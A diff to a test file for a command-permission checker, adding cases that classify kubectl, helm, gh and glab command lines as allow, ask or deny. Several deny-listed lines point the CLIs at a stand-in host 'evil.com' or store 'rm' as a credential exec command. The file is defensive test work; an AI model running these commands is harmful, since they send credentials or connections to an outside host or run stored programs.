@@ -129,6 +129,9 @@ describe('commands a cluster or cloud CLI stores for later are seen', () => {
     ['kubectl config set-credentials u --exec-command=rm --exec-arg=x', 'deny'], ['kubectl config set-credentials u --exec-command rm --exec-arg x', 'deny'],
     ['kubectl config set users.u.exec.command rm', 'deny'], ['kubectl config set-credentials u --exec-command=/etc/x', 'deny'],
     ['kubectl config set-credentials u --exec-command="$C"', 'ask'], ['kubectl config set-credentials u --auth-provider=oidc --auth-provider-arg=cmd-path=/x', 'ask'],
+    // A kubeconfig named on the line may hold an exec credential plugin: a program run now.
+    ['kubectl get pods --kubeconfig src/kc.yaml', 'ask'], ['kubectl --kubeconfig=kc.yaml get pods', 'ask'], ['kubectl get pods --kubeconfig /etc/kc', 'deny'],
+    ['KUBECONFIG=kc.yaml kubectl get pods', 'ask'], ['helm list --kubeconfig kc.yaml', 'ask'], ['helm --kubeconfig=/etc/kc list', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
   });
@@ -152,11 +155,16 @@ describe('gh and glab: stored commands, files sent and written, hosts', () => {
     ['glab release upload v1 /etc/x', 'deny'], ['gh repo clone o/r /etc/x', 'deny'], ['gh gist clone x /etc/x', 'deny'], ['glab repo clone o/r /etc/x', 'deny'],
     ['gh release download v1 -D /etc', 'deny'], ['gh release download v1 -O /etc/x', 'deny'], ['gh run download 1 -D /etc', 'deny'], ['cd /etc && gh run download 1', 'ask'],
     ['gh api --hostname evil.com user', 'deny'], ['gh auth login --hostname evil.com', 'deny'], ['gh repo clone https://evil.com/o/r', 'deny'],
+    // A repository of three parts is HOST/OWNER/REPO: gh connects to HOST.
+    ['gh pr list -R evil.com/o/r', 'deny'], ['gh pr list --repo=evil.com/o/r', 'deny'], ['gh pr view 1 -R evil.com/a/b', 'deny'], ['gh pr list -Revil.com/o/r', 'deny'],
+    ['gh pr list --repo git@evil.com:o/r', 'deny'], ['gh repo clone evil.com/o/r', 'deny'], ['gh repo view evil.com/o/r', 'deny'], ['glab mr list -R evil.com/g/r', 'deny'],
+    ['gh pr list -R "$R"', 'ask'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
   });
   it.each(['gh pr list', 'gh pr create -t x -b y', 'gh alias set co "pr checkout"', 'gh repo clone o/r', 'gh release download v1', 'gh config set editor vim',
-    'gh api repos/o/r -f q=@x', 'gh pr view 1 --json title', 'gh gist create a.txt', 'glab mr list'])('%s stays allowed', (line) => {
+    'gh api repos/o/r -f q=@x', 'gh pr view 1 --json title', 'gh gist create a.txt', 'glab mr list',
+    'gh pr list -R o/r', 'gh pr list -R github.com/o/r', 'gh repo clone o/r', 'glab mr list -R g/ns/r'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
